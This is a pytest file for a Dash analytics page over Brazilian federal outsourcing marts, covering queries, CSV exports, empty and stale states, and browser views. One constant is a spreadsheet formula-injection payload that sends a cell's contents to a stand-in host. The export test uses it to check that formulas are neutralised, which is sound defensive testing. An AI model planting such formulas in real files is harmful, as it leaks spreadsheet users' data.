"""The "Análises" page (pipelines/results/analyses.py) on marts built by the real flows: its
queries against an independent reference, the CSV exports (complete, formula-safe), the empty
state, and the views in headless Chromium, in a small Dash app with the page alone and in the
results app with the page registered as app.py will register it."""

from __future__ import annotations

import csv
import io
import os
import time
from decimal import Decimal
from pathlib import Path

import pytest
from dash import Dash, html

from pipelines import constants
from pipelines.dbt import run_dbt
from pipelines.results import analyses
from pipelines.results.formatting import brl, integer
from pipelines.results.queries import MARTS_SOURCE, ResultsRepository, make_engine
from pipelines.settings import load_settings
from tests.browser import serve, wait_text
from tests.conftest import query
from tests.test_marts import (
    UFJF,
    capture_and_materialize,
    changes_reference,
    connect,
    marts_hold_the_whole_portal,
    reference,
    reference_rows,
)

ROOT = Path(__file__).resolve().parent.parent
ASSETS = ROOT / "pipelines" / "results" / "assets"
IPANEMA = "00588541000182"
NEWEST, PREVIOUS = (2024, 5), (2023, 9)
FORMULA = '=HYPERLINK("http://exemplo.invalido/roubo?c="&B2,"Ver detalhes")'


@pytest.fixture(scope="module")
def marts(settings, portal):
    """The marts of the whole test portal, built by the real flows (kept from tests/test_marts.py
    when it ran first and left them so)."""
    conn = connect(settings)
    if not marts_hold_the_whole_portal(conn, portal):
        capture_and_materialize(settings, portal)
    assert marts_hold_the_whole_portal(conn, portal)
    yield conn
    conn.close()


@pytest.fixture(scope="module")
def ref(portal):
    return reference(portal)


@pytest.fixture(scope="module")
def repo(settings):
    repository = ResultsRepository(make_engine(settings))
    yield analyses.AnalysesRepository(repository.engine)
    repository.engine.dispose()


def small_app(settings) -> Dash:
    """A Dash app with the page alone, registered with the results app's repository."""
    app = Dash(__name__, suppress_callback_exceptions=True, assets_folder=str(ASSETS), title="Terceirizados · análises")
    app.layout = html.Div([html.Header([html.H1("Terceirizados de Órgãos Federais")]), html.Main(analyses.layout())])
    analyses.register_callbacks(app, ResultsRepository(make_engine(settings)))
    return app


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))


# -- queries ----------------------------------------------------------------------------------


def test_an_organ_and_a_company_match_the_reference(marts, ref, repo):
    periods = ref["periodos"]
    assert repo.published_periods() == periods
    series = repo.series("orgao", UFJF)
    assert [(r["ano"], r["mes"]) for r in series] == periods
    assert [(r["quantidade_terceirizados"], r["valor_custo_mensal_total"]) for r in series] == [
        (ref["orgaos"][p, UFJF]["quantidade_terceirizados"], ref["orgaos"][p, UFJF]["valor_custo_mensal_total"])
        for p in periods
    ]
    newest = ref["orgaos"][NEWEST, UFJF]
    contracts = repo.contracts("orgao", UFJF, *NEWEST, limit=10_000)
    assert len(contracts) == newest["quantidade_contratos"] == contracts[0]["total"]
    assert sum(c["quantidade_terceirizados"] for c in contracts) == newest["quantidade_terceirizados"]
    assert sum(c["valor_custo_mensal_total"] for c in contracts) == newest["valor_custo_mensal_total"]
    costs = [c["valor_custo_mensal_total"] for c in contracts]
    assert costs == sorted(costs, reverse=True)
    companies = repo.partners("orgao", UFJF, *NEWEST, limit=10_000)
    assert len(companies) == newest["quantidade_empresas"]
    assert sum(c["valor_custo_mensal_total"] for c in companies) == newest["valor_custo_mensal_total"]
    assert {c["razao_social_empresa"] for c in companies} <= {
        v["razao_social_empresa"] for (p, k), v in ref["empresas"].items() if p == NEWEST
    }

    company = ref["empresas"][NEWEST, IPANEMA]
    series = repo.series("empresa", IPANEMA)
    assert [r["valor_custo_mensal_total"] for r in series] == [
        ref["empresas"][p, IPANEMA]["valor_custo_mensal_total"] if (p, IPANEMA) in ref["empresas"] else 0
        for p in periods
    ]
    organs = repo.partners("empresa", IPANEMA, *NEWEST, limit=10_000)
    assert len(organs) == company["quantidade_orgaos"]
    assert sum(o["quantidade_terceirizados"] for o in organs) == company["quantidade_terceirizados"]
    contracts = repo.contracts("empresa", IPANEMA, *NEWEST, limit=10_000)
    assert len(contracts) == company["quantidade_contratos"]
    assert sum(c["valor_custo_mensal_total"] for c in contracts) == company["valor_custo_mensal_total"]

    options = repo.entity_options("empresa", "ipanema")
    assert [o["value"] for o in options] == [f"empresa:{IPANEMA}"]
    assert options[0]["label"] == "IPANEMA EMPRESA DE SERVICOS GERAIS E TRANSPORTES LTDA – CNPJ 00.588.541/0001-82"
    assert [o["value"] for o in repo.entity_options("empresa", "00.588.541")] == [f"empresa:{IPANEMA}"]
    assert [o["label"] for o in repo.entity_options("orgao", "juiz de fóra")] == [
        "UFJF – UNIVERSIDADE FEDERAL DE JUIZ DE FORA (MEC)"
    ]
    organs = repo.entity_options("orgao")
    assert len(organs) == 10 and organs[-1]["label"] == "(órgão não informado) (MT)"  # the unnamed one last


def test_the_marts_are_tables_of_the_tables_page(marts, settings):
    """Every mart is listed on the "Tabelas" page and paged in its primary key's order."""
    from pipelines.results.queries import TABLES

    assert [label for schema, _, label in TABLES if schema == "marts"] == [
        "Análise: marts.totais_por_periodo",
        "Análise: marts.contratos_por_periodo",
        "Análise: marts.orgaos_por_periodo",
        "Análise: marts.empresas_por_periodo",
        "Análise: marts.escolaridade_por_periodo",
        "Análise: marts.contratos",
        "Análise: marts.variacao_entre_periodos",
    ]
    tables = ResultsRepository(make_engine(settings))
    try:
        assert tables.key_columns("marts", "contratos") == ("chave_contrato",)
        assert tables.key_columns("marts", "orgaos_por_periodo") == ("ano", "mes", "chave_orgao")
        expected = query(marts, "SELECT chave_contrato FROM marts.contratos ORDER BY chave_contrato")
        first, total = tables.page("marts", "contratos", 0, 40, None, None)
        rest, _ = tables.page("marts", "contratos", 40, total, None, None)
        assert total == len(expected) > 40
        assert [r["chave_contrato"] for r in first + rest] == [key for (key,) in expected]
    finally:
        tables.engine.dispose()


def test_charts_read_the_marts_and_agree_with_the_historic_table(marts, settings, ref):
    """The "Gráficos" page reads the small analysis tables once they are built; for every
    period, its totals, organs and salary quartiles equal those computed from
    staging.historic_transformed, and the companies' costs add up to the same totals."""
    from pipelines.results.queries import MARTS_SOURCE

    tables = ResultsRepository(make_engine(settings))
    historic = "staging.historic_transformed"
    try:
        assert tables.chart_source() == MARTS_SOURCE
        pd_testing = pytest.importorskip("pandas.testing")
        totals = tables.totals_by_period(MARTS_SOURCE)
        pd_testing.assert_frame_equal(totals, tables.totals_by_period(historic), check_dtype=False)
        assert [tuple(p) for p in totals[["ano", "mes"]].itertuples(index=False)] == list(ref["periodos"])
        for year, month in ref["periodos"]:
            for dimension in ("nome_orgao", "razao_social_empresa"):
                everything = 10_000
                from_marts = tables.top_by_cost(MARTS_SOURCE, dimension, year, month, limit=everything)
                from_rows = tables.top_by_cost(historic, dimension, year, month, limit=everything)
                # a company's rows under two spellings of its name in a period count under the
                # period's name in the marts (marts.empresas_por_periodo): the same total
                assert money(from_marts["custo_total"]) == money(from_rows["custo_total"])
                assert from_marts["terceirizados"].sum() == from_rows["terceirizados"].sum()
                if dimension == "nome_orgao":
                    pd_testing.assert_frame_equal(from_marts, from_rows, check_dtype=False)
            # the table's query uses percentile_cont (in floating point): the same to the cent
            salaries = tables.salary_by_education(MARTS_SOURCE, year, month)
            assert len(salaries) >= 3
            from_rows = tables.salary_by_education(historic, year, month)
            assert list(salaries["nivel"]) == list(from_rows["nivel"])
            assert list(salaries["terceirizados"]) == list(from_rows["terceirizados"])
            for column in ("minimo", "q1", "mediana", "q3", "p95"):
                assert all(
                    abs(Decimal(str(a)) - Decimal(str(b))) <= Decimal("0.01")
                    for a, b in zip(salaries[column], from_rows[column], strict=True)
                ), column
        # marts left behind by the historic table (a marts build that failed): the charts read the table
        with marts.cursor() as cursor:
            cursor.execute(
                "UPDATE marts.totais_por_periodo SET quantidade_terceirizados = "
                "quantidade_terceirizados + 1 WHERE (ano, mes) = (2019, 1)"
            )
        try:
            assert tables.chart_source() == historic
        finally:
            with marts.cursor() as cursor:
                cursor.execute(
                    "UPDATE marts.totais_por_periodo SET quantidade_terceirizados = "
                    "quantidade_terceirizados - 1 WHERE (ano, mes) = (2019, 1)"
                )
        assert tables.chart_source() == MARTS_SOURCE
        # the historic table rewritten with the same rows' count (a new file of the same size whose
        # marts build failed): the marts were built from another version of the period
        with marts.cursor() as cursor:
            cursor.execute(
                "UPDATE staging.historic_transformed SET valor_custo_mensal = valor_custo_mensal + 1 "
                "WHERE (ano, mes) = (2019, 1)"
            )
        assert tables.chart_source() == historic
        with marts.cursor() as cursor:
            cursor.execute(
                "UPDATE staging.historic_transformed SET valor_custo_mensal = valor_custo_mensal - 1 "
                "WHERE (ano, mes) = (2019, 1)"
            )
        # the marts built again (nothing was captured, so only a full refresh makes dbt run)
        outcome = run_dbt(settings, "build", constants.HISTORIC_MARTS_SELECTOR, constants.DBT_HISTORIC, True)
        assert outcome.success
        assert tables.chart_source() == MARTS_SOURCE
    finally:
        tables.engine.dispose()


def money(values) -> Decimal:
    return sum((Decimal(str(value)) for value in values), Decimal("0"))


def test_salary_quartiles_match_an_independent_computation(marts, portal):
    """marts.escolaridade_por_periodo against the generated rows: per period and education
    level, the workers, the salaried ones and percentile_cont's linear interpolation."""
    from collections import defaultdict

    def percentile(values: list[Decimal], fraction: str) -> Decimal:
        position = Decimal(fraction) * (len(values) - 1)
        low = int(position)
        high = min(low + 1, len(values) - 1)
        exact = values[low] + (values[high] - values[low]) * (position - low)
        return exact.quantize(Decimal("0.01"), rounding="ROUND_HALF_UP")  # salaries are never negative

    groups: dict = defaultdict(list)
    for row in reference_rows(portal):
        groups[(row["ano"], row["mes"], row["nivel_escolaridade"])].append(row["valor_salario_mensal"])
    expected = {}
    for key, salaries in groups.items():
        known = sorted(s for s in salaries if s is not None)
        quartiles = (
            (known[0], *(percentile(known, f) for f in ("0.25", "0.5", "0.75", "0.95")), known[-1])
            if known
            else (None,) * 6
        )
        expected[key] = (len(salaries), len(known), *quartiles)
    got = {
        (y, m, level): tuple(rest)
        for y, m, level, *rest in query(
            marts,
            "SELECT ano, mes, nivel_escolaridade, quantidade_terceirizados, quantidade_com_salario, "
            "valor_salario_minimo, valor_salario_primeiro_quartil, valor_salario_mediano, "
            "valor_salario_terceiro_quartil, valor_salario_percentil_95, valor_salario_maximo "
            "FROM marts.escolaridade_por_periodo",
        )
    }
    assert got == expected
    assert sum(count for count, *_ in got.values()) == sum(e.loaded_rows for e in portal.portal.expectations.values())


def test_the_largest_changes_between_the_last_two_publications(marts, ref, repo):
    comparison = repo.comparison()
    assert (
        comparison.year,
        comparison.month,
        comparison.previous_year,
        comparison.previous_month,
        comparison.missing_between,
    ) == (*NEWEST, *PREVIOUS, 1)
    assert analyses.comparison_text(comparison).startswith(
        "De 09/2023 (publicação anterior) para 05/2024 (a mais recente); 1 período do calendário não está no portal"
    )
    for kind in ("orgao", "empresa"):
        expected = {k: v for (y, m, k), v in changes_reference(ref, kind).items() if (y, m) == NEWEST}
        for measure, position in (("terceirizados", (2, 3)), ("custo", (4, 5))):
            deltas = {k: v[position[0]] - v[position[1]] for k, v in expected.items()}
            grew = repo.changes(kind, measure, "aumentos", comparison, limit=1000)
            fell = repo.changes(kind, measure, "quedas", comparison, limit=1000)
            column = "variacao_terceirizados" if measure == "terceirizados" else "variacao_custo"
            assert [r["chave"] for r in grew] == [
                k for k, d in sorted(deltas.items(), key=lambda i: (-i[1], i[0])) if d > 0
            ], (kind, measure)
            assert [r["chave"] for r in fell] == [
                k for k, d in sorted(deltas.items(), key=lambda i: (i[1], i[0])) if d < 0
            ], (kind, measure)
            assert all(r[column] == deltas[r["chave"]] for r in grew + fell)
            assert all((r["ano_anterior"], r["mes_anterior"]) == PREVIOUS for r in grew + fell)


def test_every_view_answers_fast(marts, repo):
    comparison = repo.comparison()
    calls = {
        "opções": lambda: repo.entity_options("empresa", "servicos"),
        "série": lambda: repo.series("orgao", UFJF),
        "contratos": lambda: repo.contracts("empresa", IPANEMA, *NEWEST),
        "parceiros": lambda: repo.partners("orgao", UFJF, *NEWEST),
        "variações": lambda: repo.changes("orgao", "custo", "quedas", comparison),
    }
    for label, call in calls.items():
        call()
        started = time.perf_counter()
        call()
        assert time.perf_counter() - started < 0.3, label


# -- exports -----------------------------------------------------------------------------------


def test_every_view_exports_all_its_rows_as_csv(marts, ref, settings):
    client = small_app(settings).server.test_client()
    rows = read_csv(client.get(analyses.export_href("serie", tipo="orgao", chave=UFJF)))
    assert rows[0][:3] == ["ano", "mes", "sigla_orgao_superior_unidade_gestora"]
    assert [(r[0], r[1], r[6]) for r in rows[1:]] == [
        (str(y), str(m), str(ref["orgaos"][(y, m), UFJF]["quantidade_terceirizados"])) for y, m in ref["periodos"]
    ]
    contracts = read_csv(client.get(analyses.export_href("contratos", tipo="orgao", chave=UFJF)))
    assert len(contracts) - 1 == ref["orgaos"][NEWEST, UFJF]["quantidade_contratos"]  # all, not the 20 shown
    assert (
        sum(Decimal(r[contracts[0].index("valor_custo_mensal_total")]) for r in contracts[1:])
        == ref["orgaos"][NEWEST, UFJF]["valor_custo_mensal_total"]
    )
    organs = read_csv(client.get(analyses.export_href("parceiros", tipo="empresa", chave=IPANEMA)))
    assert len(organs) - 1 == ref["empresas"][NEWEST, IPANEMA]["quantidade_orgaos"]
    fell = read_csv(client.get(analyses.export_href("quedas", tipo="empresa", medida="custo")))
    grew = read_csv(client.get(analyses.export_href("aumentos", tipo="empresa", medida="custo")))
    changes = {k: v for (y, m, k), v in changes_reference(ref, "empresa").items() if (y, m) == NEWEST}
    assert len(fell) + len(grew) - 2 == sum(1 for v in changes.values() if v[4] != v[5])
    column = fell[0].index("variacao_custo")
    assert all(r[column].startswith("-") and Decimal(r[column]) < 0 for r in fell[1:])  # numbers: no apostrophe


def test_exports_neutralise_formulas_like_the_table_export(marts, settings):
    where = "WHERE chave_empresa = %s AND (ano, mes) = (%s, %s)"
    [(original,)] = query(
        marts, f"SELECT razao_social_empresa FROM marts.empresas_por_periodo {where}", (IPANEMA, *NEWEST)
    )
    with marts.cursor() as cursor:
        cursor.execute(
            f"UPDATE marts.empresas_por_periodo SET razao_social_empresa = %s {where}", (FORMULA, IPANEMA, *NEWEST)
        )
    try:
        client = small_app(settings).server.test_client()
        [(organ,)] = query(
            marts,
            "SELECT min(chave_orgao) FROM marts.contratos_por_periodo WHERE chave_empresa = %s "
            "AND (ano, mes) = (%s, %s)",
            (IPANEMA, *NEWEST),
        )
        companies = read_csv(client.get(analyses.export_href("parceiros", tipo="orgao", chave=organ)))
        names = [r[companies[0].index("razao_social_empresa")] for r in companies[1:]]
        assert "'" + FORMULA in names and FORMULA not in names
        series = read_csv(client.get(analyses.export_href("serie", tipo="empresa", chave=IPANEMA)))
        assert series[-1][series[0].index("razao_social_empresa")] == "'" + FORMULA
        amounts = series[-1][series[0].index("valor_custo_mensal_total")]
        assert Decimal(amounts) > 0  # numbers stay numbers
    finally:
        with marts.cursor() as cursor:
            cursor.execute(
                f"UPDATE marts.empresas_por_periodo SET razao_social_empresa = %s {where}", (original, IPANEMA, *NEWEST)
            )


def test_invalid_exports_are_refused(marts, settings):
    client = small_app(settings).server.test_client()
    for href in (
        "/analises/exportar.csv?visao=tabela&tipo=orgao",
        "/analises/exportar.csv?visao=serie&tipo=pais",
        "/analises/exportar.csv?visao=serie&tipo=orgao",
        "/analises/exportar.csv?visao=aumentos&tipo=orgao",
        "/analises/exportar.csv?visao=serie&tipo=orgao&chave=a%00b",
    ):
        response = client.get(href)
        assert response.status_code == 400, href
        assert response.get_data(as_text=True).startswith("Exportação inválida: "), href
    # an organ that does not exist has an empty series (zeros), never an error
    rows = read_csv(client.get(analyses.export_href("contratos", tipo="orgao", chave='["X", "Y", "Z"]')))
    assert len(rows) == 1


def test_without_marts_the_page_says_which_commands_fill_them(settings, browser):
    import psycopg2
    from psycopg2 import sql

    name = settings.postgres_db + "_sem_marts"
    admin = psycopg2.connect(**settings.postgres_dsn("postgres"))
    admin.autocommit = True
    with admin.cursor() as cursor:
        cursor.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(name)))
        cursor.execute(sql.SQL("CREATE DATABASE {}").format(sql.Identifier(name)))
    try:
        app = small_app(load_settings({**os.environ, "POSTGRES_DB": name}))
        export = app.server.test_client().get(analyses.export_href("serie", tipo="orgao", chave=UFJF))
        assert export.status_code == 404
        text = export.get_data(as_text=True)
        assert (
            text.startswith(analyses.MISSING_MESSAGE)
            and "python run/historic_capture.py" in text
            and "python run/historic_materialize.py" in text
        )
        with serve(app) as url:
            page = browser.new_page(viewport={"width": 1400, "height": 900})
            page.goto(url)
            page.wait_for_selector("#analises-vazio")
            notice = page.inner_text("#analises-vazio")
            assert notice.startswith("As tabelas de análise ainda não foram construídas.")
            assert ".venv/bin/python run/historic_capture.py\n.venv/bin/python run/historic_materialize.py" in notice
            assert not page.is_visible("#analises-conteudo")
            page.close()
    finally:
        with admin.cursor() as cursor:
            cursor.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(name)))
        admin.close()


# -- in headless Chromium --------------------------------------------------------------------


def screenshot(page, selector, name):
    """Fresh screenshots for the README when SAVE_SCREENSHOTS=1 (each under 300 KB)."""
    if os.environ.get("SAVE_SCREENSHOTS") == "1":
        path = ROOT / "images" / name
        page.locator(selector).screenshot(path=str(path))
        assert path.stat().st_size < 300_000, (name, path.stat().st_size)


def cells(page, grid, column):
    return page.locator(f"{grid} .ag-center-cols-container .ag-cell[col-id='{column}']").all_inner_texts()


def grid_row(page, grid, index):
    return {
        cell.get_attribute("col-id"): cell.inner_text()
        for cell in page.locator(f"{grid} .ag-row[row-index='{index}'] .ag-cell").all()
    }


def test_browser_shows_an_organ_a_company_and_the_largest_changes(marts, ref, settings, browser):
    newest = ref["orgaos"][NEWEST, UFJF]
    with serve(small_app(settings)) as url:
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        page.goto(url)
        wait_text(page, "#analises-info", "5 períodos publicados, de 01/2019 a 05/2024")
        info = page.inner_text("#analises-info")
        assert "12 períodos do calendário (janeiro, maio e setembro) não estão no portal" in info
        # an organ: searchable dropdown
        page.click("#analises-entidade")
        page.keyboard.type("juiz de fora")
        wait_text(page, "#analises-entidade", "UFJF – UNIVERSIDADE FEDERAL DE JUIZ DE FORA (MEC)")
        page.keyboard.press("Enter")
        wait_text(page, "#analises-resumo", "UFJF – UNIVERSIDADE FEDERAL DE JUIZ DE FORA (MEC)")
        summary = page.inner_text("#analises-resumo")
        assert (
            f"último período publicado em que aparece: 05/2024 · {integer(newest['quantidade_terceirizados'])} "
            f"terceirizados · custo mensal {brl(newest['valor_custo_mensal_total'])}" in summary
        )
        assert f"custo médio por terceirizado {brl(newest['valor_custo_medio'])}" in summary
        page.wait_for_selector("#analises-serie .ag-row[row-index='4']")
        assert cells(page, "#analises-serie", "periodo") == ["01/2019", "01/2021", "05/2022", "09/2023", "05/2024"]
        last = grid_row(page, "#analises-serie", 4)
        assert last["quantidade_terceirizados"] == integer(newest["quantidade_terceirizados"])
        assert last["valor_custo_mensal_total"] == brl(newest["valor_custo_mensal_total"])
        assert last["razao_custo_salario"] == f"{newest['razao_custo_salario']:.2f}".replace(".", ",")
        assert last["parceiros"] == integer(newest["quantidade_empresas"])
        wait_text(page, "#analises-contratos-titulo", "Contratos em 05/2024")
        assert (
            page.inner_text("#analises-contratos-titulo")
            == f"Contratos em 05/2024: {integer(newest['quantidade_contratos'])} contratos"
        )
        shown = [
            Decimal(c.removeprefix("R$ ").replace(".", "").replace(",", "."))
            for c in cells(page, "#analises-contratos", "valor_custo_mensal_total")
        ]
        assert sum(shown) == newest["valor_custo_mensal_total"] and shown == sorted(shown, reverse=True)
        assert (
            page.inner_text("#analises-parceiros-titulo")
            == f"Empresas em 05/2024: {integer(newest['quantidade_empresas'])} empresas"
        )
        assert "terceirizados e custo mensal por período publicado" in page.inner_text("#analises-grafico")
        tick = page.locator("#analises-grafico .y2tick text").first.text_content()
        assert tick == "R$ 0"
        assert page.get_attribute("#analises-contratos-exportar", "href") == analyses.export_href(
            "contratos", tipo="orgao", chave=UFJF
        )
        screenshot(page, "#analises-entidade-secao", "analises_orgao.png")

        # a company
        company = ref["empresas"][NEWEST, IPANEMA]
        page.click("#analises-tipo label:has-text('Empresa')")
        wait_text(page, "#analises-resumo", "CNPJ")
        page.click("#analises-entidade")
        page.keyboard.type("00588541")
        wait_text(page, "#analises-entidade", "IPANEMA EMPRESA DE SERVICOS GERAIS E TRANSPORTES LTDA")
        page.keyboard.press("Enter")
        wait_text(page, "#analises-resumo", "IPANEMA")
        assert (
            f"{integer(company['quantidade_terceirizados'])} terceirizados · custo mensal "
            f"{brl(company['valor_custo_mensal_total'])}" in page.inner_text("#analises-resumo")
        )
        wait_text(page, "#analises-parceiros-titulo", "Órgãos em 05/2024")
        assert (
            page.inner_text("#analises-parceiros-titulo")
            == f"Órgãos em 05/2024: {integer(company['quantidade_orgaos'])} órgãos"
        )
        organs = cells(page, "#analises-parceiros", "nome")
        served = query(
            marts,
            "SELECT DISTINCT coalesce(sigla_orgao || ' – ' || nome_orgao, '(órgão não informado)') "
            "FROM staging.historic_transformed WHERE cnpj_empresa = %s AND (ano, mes) = (%s, %s)",
            (IPANEMA, *NEWEST),
        )
        assert sorted(organs) == sorted(name for (name,) in served) and len(organs) == company["quantidade_orgaos"]
        last = grid_row(page, "#analises-serie", 4)
        assert last["observacao"] == company["razao_social_empresa"]
        assert last["parceiros"] == integer(company["quantidade_orgaos"])
        assert page.get_attribute("#analises-serie-exportar", "href") == analyses.export_href(
            "serie", tipo="empresa", chave=IPANEMA
        )
        screenshot(page, "#analises-entidade-secao", "analises_empresa.png")

        # the largest changes, both directions
        wait_text(page, "#analises-variacoes-info", "De 09/2023 (publicação anterior) para 05/2024")
        page.click("#analises-variacoes-medida label:has-text('Custo mensal')")
        changes = {k: v for (y, m, k), v in changes_reference(ref, "orgao").items() if (y, m) == NEWEST}
        deltas = sorted(((v[4] - v[5], k) for k, v in changes.items()), reverse=True)
        top_key = deltas[0][1]
        top = ref["orgaos"][NEWEST, top_key]
        expected_first = brl(deltas[0][0])
        page.wait_for_function(
            "([t]) => { const c = document.querySelector("
            "\"#analises-aumentos .ag-row[row-index='0'] .ag-cell[col-id='variacao_custo']\");"
            " return c && c.innerText === t; }",
            arg=["+" + expected_first],
            timeout=20_000,
        )
        first = grid_row(page, "#analises-aumentos", 0)
        assert first["valor_custo_mensal_total"] == brl(top["valor_custo_mensal_total"])
        falls = cells(page, "#analises-quedas", "variacao_custo")
        assert falls and all(value.startswith("-R$ ") for value in falls)
        assert falls[0] == "-" + brl(-deltas[-1][0])
        screenshot(page, "#analises-variacoes-secao", "analises_variacoes.png")
        english = [
            w
            for w in ("No Rows To Show", "Loading...", "Select...", "No results found")
            if w in page.inner_text("body")
        ]
        assert english == []
        page.close()


def test_the_page_inside_the_results_app(marts, settings, browser):
    """The results app registers the page (menu, layout, callbacks): the menu link opens it
    and its callbacks pass the app's request guard."""
    from pipelines.results import app as results_app

    repository = ResultsRepository(make_engine(settings))
    app = results_app.create_app(settings, repository)
    with serve(app) as url:
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        page.goto(url + "/tabelas")
        # the menu link routes inside the page once Dash's renderer has taken the page over; a
        # click before that (a loaded machine: seen once in CI) reloaded /tabelas instead
        page.wait_for_load_state("networkidle")
        page.click("#nav-analises")
        page.wait_for_url("**/analises")
        wait_text(page, "#analises-info", "5 períodos publicados")
        page.wait_for_selector("#analises-contratos .ag-row")
        page.wait_for_selector("#analises-aumentos .ag-row")
        assert page.locator("#db-down").count() == 0
        page.close()


def test_a_company_with_an_alphanumeric_cnpj_is_found_and_labelled(marts, repo, settings):
    """The alphanumeric CNPJ (issued from July 2026) is shown with the CNPJ's punctuation and found
    when typed with it, without it or in lower case."""
    import psycopg2

    from pipelines.results.analyses import cnpj_label

    assert cnpj_label("12ABC34501DE35") == "12.ABC.345/01DE-35"
    assert cnpj_label("19232342000165") == "19.232.342/0001-65"
    conn = psycopg2.connect(**settings.postgres_dsn())
    conn.autocommit = True
    year, month = NEWEST
    try:
        with conn.cursor() as cursor:
            cursor.execute(
                "INSERT INTO marts.empresas_por_periodo (ano, mes, chave_empresa, cnpj_empresa, razao_social_empresa, "
                "quantidade_terceirizados, valor_custo_mensal_total) VALUES (%s, %s, %s, %s, %s, 1, 1000)",
                (year, month, "12ABC34501DE35", "12ABC34501DE35", "EMPRESA NOVA LTDA"),
            )
            # companies of higher cost whose numeric CNPJs hold the typed digits (123): more than a list shows
            for number in range(60):
                key = f"99123{number:09d}"
                cursor.execute(
                    "INSERT INTO marts.empresas_por_periodo (ano, mes, chave_empresa, cnpj_empresa, "
                    "razao_social_empresa, quantidade_terceirizados, valor_custo_mensal_total) "
                    "VALUES (%s, %s, %s, %s, 'OUTRA', 1, 50000)",
                    (year, month, key, key),
                )
        for typed in ("12.ABC.345/01DE-35", "12abc34501de35", "ABC345", "12ABC.345/01DE-35", "12\u00a0ABC 345"):
            options = repo.entity_options("empresa", typed)
            assert [o["value"] for o in options] == ["empresa:12ABC34501DE35"], typed
            # the dropdown filters again in the browser: every word typed is in the option's search text
            assert all(word.lower() in options[0]["search"].lower() for word in typed.split()), typed
        assert options[0]["label"] == "EMPRESA NOVA LTDA – CNPJ 12.ABC.345/01DE-35"
        assert repo.entity_options("empresa", "12ABC3")[0]["value"] == "empresa:12ABC34501DE35"
    finally:
        with conn.cursor() as cursor:
            cursor.execute(
                "DELETE FROM marts.empresas_por_periodo WHERE chave_empresa = '12ABC34501DE35' "
                "OR (chave_empresa LIKE '99123%%' AND razao_social_empresa = 'OUTRA')"
            )
        conn.close()


def picked_entity_response(settings) -> str:
    """What the page answers when an organ is picked (its callback, as the browser calls it)."""
    import json

    app = small_app(settings)
    key = next(key for key in app.callback_map if "analises-resumo.children" in key)
    outputs = [part.rsplit(".", 1) for part in key.strip(".").split("...")]
    body = {
        "output": key,
        "outputs": [{"id": i, "property": p} for i, p in outputs],
        "inputs": [{"id": "analises-entidade", "property": "value", "value": "orgao:" + UFJF}],
        "changedPropIds": ["analises-entidade.value"],
        "state": [],
    }
    response = app.server.test_client().post(
        "/_dash-update-component", data=json.dumps(body), content_type="application/json"
    )
    return response.get_data(as_text=True)


def test_half_updated_marts_are_not_shown_as_current(marts, repo, settings):
    """A marts build that fails (or is killed) after some marts took a new period leaves the
    others behind: the page used to show the new period's organs at 0 and "no change" in the
    largest variations. It now says the tables are out of date, as the charts fall back."""
    results = ResultsRepository(make_engine(settings))
    assert results.chart_source() == MARTS_SOURCE and repo.ready()

    def shift(model: str, hours: int) -> None:
        query(
            marts,
            "UPDATE marts.periodos_construidos SET construido_em = construido_em + make_interval(hours => %s) "
            "WHERE modelo = %s RETURNING 1",
            (hours, model),
        )

    shift("variacao_entre_periodos", -1)  # built before the marts it compares: left behind
    try:
        assert "desatualizadas" in picked_entity_response(settings)  # a page open before the failure
        assert not repo.ready()
        with pytest.raises(analyses.MartsMissingError, match="desatualizadas") as raised:
            repo.require()
        assert "run/historic_materialize.py" in str(raised.value)
        assert results.chart_source() == MARTS_SOURCE  # the charts do not read that table
        from datetime import UTC, datetime

        from pipelines import runs

        # a run recorded Running by a process killed before anything marked it: still stale
        query(
            marts,
            "INSERT INTO logs.execucoes (id_execucao, nome_flow, iniciado_em, estado_final) "
            "VALUES ('morta', %s, now(), 'Running') RETURNING 1",
            (constants.HISTORIC_MATERIALIZE_FLOW,),
        )
        assert repo.problem() == analyses.STALE_MESSAGE
        # while a historic materialization runs (its lease held), the marts are rebuilt one by one
        runs.start_run(settings, "em-andamento", constants.HISTORIC_MATERIALIZE_FLOW, datetime.now(UTC), {})
        try:
            assert repo.problem() == analyses.UPDATING_MESSAGE
        finally:
            runs.finish_run(settings, "em-andamento", "Success", "teste", datetime.now(UTC))
            query(marts, "DELETE FROM logs.execucoes WHERE id_execucao IN ('morta', 'em-andamento') RETURNING 1")
    finally:
        shift("variacao_entre_periodos", 1)
    shift("orgaos_por_periodo", -1)
    try:
        assert not repo.ready() and results.chart_source() != MARTS_SOURCE
    finally:
        shift("orgaos_por_periodo", 1)
    assert repo.ready() and results.chart_source() == MARTS_SOURCE
    results.engine.dispose()
